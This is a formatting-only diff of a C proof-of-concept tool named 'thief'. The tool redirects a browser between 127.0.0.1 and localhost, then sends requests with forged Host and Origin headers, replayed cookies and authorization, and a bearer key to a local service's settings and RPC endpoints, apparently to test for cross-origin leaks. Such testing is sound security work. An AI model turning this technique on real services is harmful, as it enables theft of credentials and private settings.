@@ -4,7 +4,8 @@
 //   thief LISTEN_PORT GATEWAY SERVICE_PORT [KEY]
 //
 // GET /        redirects to the other of 127.0.0.1 and localhost
-// GET /steal   answers with the request as it came, then a line for each call: "ATTEMPT: STATUS LINE" or "no connection"
+// GET /steal   answers with the request as it came, then a line for each call: "ATTEMPT: STATUS LINE" or "no
+// connection"
 //
 // Each call has a forged Host and Origin. KEY is sent where it is given: what a guest that has the right key would get.
 
@@ -98,11 +99,12 @@ static void steal(const char *head) {
     say("%s----\n", head);
     snprintf(request, sizeof request, "GET / HTTP/1.1\r\n%s\r\n\r\n", forged);
     call("the page", request);
-    snprintf(request, sizeof request, "GET /api/settings HTTP/1.1\r\n%s\r\nCookie: %s\r\nAuthorization: %s\r\n\r\n", forged,
-             cookie, authorization);
+    snprintf(request, sizeof request, "GET /api/settings HTTP/1.1\r\n%s\r\nCookie: %s\r\nAuthorization: %s\r\n\r\n",
+             forged, cookie, authorization);
     call("with what the browser sent", request);
     if (!key) return;
-    snprintf(request, sizeof request, "GET /api/settings HTTP/1.1\r\n%s\r\nAuthorization: Bearer %s\r\n\r\n", forged, key);
+    snprintf(request, sizeof request, "GET /api/settings HTTP/1.1\r\n%s\r\nAuthorization: Bearer %s\r\n\r\n", forged,
+             key);
     call("with the right key", request);
     snprintf(request, sizeof request,
              "GET /rpc?contract=1 HTTP/1.1\r\n%s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
@@ -126,8 +128,8 @@ static void serve(int fd) {
     }
     const char *port = strrchr(host, ':');
     const char *other = strncmp(host, "localhost", 9) == 0 ? "127.0.0.1" : "localhost";
-    snprintf(answer, sizeof answer, "HTTP/1.1 302 Found\r\nLocation: http://%s%s/steal\r\nContent-Length: 0\r\n\r\n", other,
-             port ? port : "");
+    snprintf(answer, sizeof answer, "HTTP/1.1 302 Found\r\nLocation: http://%s%s/steal\r\nContent-Length: 0\r\n\r\n",
+             other, port ? port : "");
     send_all(fd, answer, strlen(answer));
 }
 
